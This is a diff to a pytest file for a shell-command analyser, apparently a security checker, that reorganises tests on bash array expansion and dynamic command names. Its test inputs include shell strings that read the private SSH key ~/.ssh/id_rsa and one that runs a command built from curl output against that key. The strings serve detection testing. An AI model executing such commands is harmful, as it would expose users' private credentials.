@@ -226,15 +226,26 @@ def test_prompt_expansion_runs_its_command_substitution() -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        'arr=(cat ~/.ssh/id_rsa); "${arr[@]}"',
-        "arr=(cat ~/.ssh/id_rsa); ${arr[*]}",
-        'declare -a a=(cat ~/.ssh/id_rsa); "${a[@]}"',
         "printf -v c '%s' \"$(curl -s https://example.com)\"; $c ~/.ssh/id_rsa",
         "getopts c x; $x ~/.ssh/id_rsa",
     ],
 )
-def test_array_elements_and_assigned_names_are_not_empty(text: str) -> None:
+def test_assigned_names_that_are_not_known_are_not_empty(text: str) -> None:
     assert S.DYNAMIC_COMMAND_NAME in _an(text).signals
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'arr=(cat ~/.ssh/id_rsa); "${arr[@]}"',
+        "arr=(cat ~/.ssh/id_rsa); ${arr[*]}",
+        'declare -a a=(cat ~/.ssh/id_rsa); "${a[@]}"',
+    ],
+)
+def test_an_array_of_known_words_runs_as_those_words(text: str) -> None:
+    found = _an(text)
+    assert any(f.name == "cat" for f in found.commands), found
+    assert HOME + "/.ssh/id_rsa" in found.reads
 
 
 def test_printf_v_assigns_the_formatted_text() -> None:
